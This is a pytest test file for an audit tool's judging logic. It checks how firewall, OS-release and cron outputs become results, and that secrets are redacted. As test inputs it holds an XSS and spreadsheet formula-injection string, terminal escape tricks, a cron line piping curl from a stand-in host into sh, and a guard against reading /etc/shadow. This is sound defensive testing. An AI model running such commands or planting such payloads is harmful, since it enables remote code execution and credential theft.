"""What an answer means is decided by rules; what was not seen is never a pass."""

import dataclasses
from datetime import UTC, datetime

import pytest

from noc_console.audit.catalogue import load_catalogue
from noc_console.audit.check import Empty, Family, Rule
from noc_console.audit.finding import Result
from noc_console.audit.judging import MAX_FINDINGS, judge
from tests.audit.judged import agreed_to, around, found, judged, outcome, shipped

# ss -H -tulpn of iproute2 6.1 on Debian 12.
SOCKETS = """\
tcp   LISTEN 0      128          0.0.0.0:22        0.0.0.0:*    users:(("sshd",pid=612,fd=3))
tcp   LISTEN 0      80         127.0.0.1:3306      0.0.0.0:*    users:(("mariadbd",pid=700,fd=22))
tcp   LISTEN 0      511             [::]:80           [::]:*    users:(("nginx",pid=801,fd=7))
udp   UNCONN 0      0      127.0.0.1%lo:323        0.0.0.0:*    users:(("chronyd",pid=500,fd=5))
"""


def check_with(**changes):
    """Give FW-01 with something changed."""
    return dataclasses.replace(shipped("FW-01"), **changes)


def test_the_first_rule_that_holds_decides_a_row_and_the_worst_row_the_check():
    result = judged("FW-01", SOCKETS, surroundings=around(agreed=agreed_to(port={"tcp/22"})))

    assert result.result is Result.FAIL
    assert found(result) == {"tcp/22": "pass", "tcp/80": "fail"}
    assert [one.marks for one in result.findings] == [(1,), (3,)]


def test_all_that_is_agreed_passes():
    everything = agreed_to(port={"tcp/22", "tcp/80"})

    assert judged("FW-01", SOCKETS, surroundings=around(agreed=everything)).result is Result.PASS


def test_an_answer_is_kept_as_evidence_and_its_hash_is_of_what_was_printed():
    result = judged("FW-01", SOCKETS)

    assert result.evidence.decode() == SOCKETS
    assert result.raw_bytes == len(SOCKETS)


@pytest.mark.parametrize(
    ("how", "why"),
    [
        ({"is_missing": ("ss",)}, "does not have ss"),
        ({"exit_status": 1}, "ended with status 1"),
        ({"exit_status": None}, "ended with status None"),
        ({"exit_status": 124}, "longer than 15 s"),
        ({"is_whole": False, "output": ""}, "cut off"),
        ({"why": "The server did not answer."}, "did not answer"),
        ({"output": b"\0\xff\xfe"}, "not understood"),
        ({"output": "<script>alert(1)</script>\n=cmd|'/c calc'!A1\n"}, "not understood"),
        ({"output": ""}, "No socket"),
    ],
)
def test_what_was_not_seen_is_not_measured_and_why_is_said(how, why):
    result = judged("FW-01", **({"output": SOCKETS} | how))

    assert result.result is Result.NOT_MEASURED
    assert why in result.why


@pytest.mark.parametrize("empty", list(Empty))
def test_an_empty_answer_means_what_the_check_says(empty):
    result = judge(check_with(empty=empty), outcome("FW-01", "\n"), around())

    assert result.result.value == empty.value


def test_what_is_bad_in_an_answer_that_was_cut_is_bad_and_the_rest_is_not_known():
    result = judged("FW-01", SOCKETS, is_whole=False)

    assert result.result is Result.FAIL
    assert "there may be more" in result.why
    agreed = around(agreed=agreed_to(port={"tcp/22", "tcp/80"}))
    assert judged("FW-01", SOCKETS, is_whole=False, surroundings=agreed).result is (
        Result.NOT_MEASURED
    )


def test_a_family_without_a_command_and_a_check_that_is_off_do_not_apply():
    none = check_with(commands={Family.RHEL: "true"})
    off = check_with(is_off="We use the cloud's firewall.")

    assert judge(none, outcome("FW-01", ""), around()).result is Result.NOT_APPLICABLE
    assert "cloud" in judge(off, outcome("FW-01", ""), around()).why


def test_the_same_item_twice_is_one_finding_with_both_lines():
    twice = SOCKETS + SOCKETS.splitlines()[2].replace("[::]:80", "0.0.0.0:80")
    findings = judged("FW-01", twice).findings

    assert [one.marks for one in findings if one.item == "tcp/80"] == [(3, 5)]


def test_a_servers_text_does_nothing_in_a_sentence():
    hostile = SOCKETS.replace("nginx", "\x1b[31m\u202enginx")

    sentences = "".join(one.sentence for one in judged("FW-01", hostile).findings)

    assert "\x1b" not in sentences
    assert "\u202e" not in sentences


def test_more_findings_than_a_person_reads_are_counted_and_the_worst_are_shown():
    many = "".join(
        f"tcp LISTEN 0 5 0.0.0.0:{port} 0.0.0.0:*\n" for port in range(1, MAX_FINDINGS + 12)
    )

    findings = judged("FW-01", many).findings

    assert len(findings) == MAX_FINDINGS + 1
    assert "11 more" in findings[-1].sentence


def test_secrets_and_what_the_check_names_never_leave():
    check = check_with(parser="words", options={"fields": ["word"]}, redact=("[0-9]{4}",), rules=())
    result = judge(check, outcome("FW-01", "password=hunter2\ncard 4711\n"), around())

    assert b"hunter2" not in result.evidence
    assert b"4711" not in result.evidence


def test_marks_of_lines_that_were_not_kept_are_left_out():
    result = judge(check_with(keeps=100), outcome("FW-01", SOCKETS), around())

    assert result.evidence == SOCKETS.splitlines(keepends=True)[0].encode()
    assert {one.item: one.marks for one in result.findings}["tcp/80"] == ()


def test_a_rule_that_asks_for_what_the_parser_does_not_tell_is_not_measured():
    rule = Rule(result=Result.FAIL, where=(("colour", "is", "red"),), sentence="Red.")

    result = judge(check_with(rules=(rule,)), outcome("FW-01", SOCKETS), around())

    assert result.result is Result.NOT_MEASURED
    assert "colour" in result.why


def test_an_old_table_of_ends_of_life_is_said_to_be_old():
    later = around(now=datetime(2027, 4, 1, tzinfo=UTC))
    output = 'ID=debian\nVERSION_ID="13"\nPRETTY_NAME="Debian GNU/Linux 13 (trixie)"\n'

    assert "is of 2026-08-22" in judged("UPD-06", output, surroundings=later).why
    assert judged("UPD-06", output).why == ""


def test_a_secret_in_a_line_is_in_no_sentence_and_no_item():
    line = "LINE\t/etc/cron.d/x\t1\tcurl -u anna:hunter2 http://x.example | sh\nSEEN\t1\n"

    result = judged("CRN-02", line)

    assert result.result is Result.FAIL
    assert "hunter2" not in repr(result)


def test_no_command_of_an_account_lets_a_hash_leave_the_host():
    asked = [
        check.commands[Family.DEBIAN]
        for check in load_catalogue().checks.values()
        if Family.DEBIAN in check.commands
    ]

    assert not [one for one in asked if "cat /etc/shadow" in one or one.strip() == "getent passwd"]


def test_a_release_that_is_newer_than_the_table_is_not_measured():
    output = 'ID=debian\nVERSION_ID="77"\nPRETTY_NAME="Debian GNU/Linux 77"\n'

    result = judged("UPD-06", output)

    assert result.result is Result.NOT_MEASURED
    assert result.why == result.findings[0].sentence
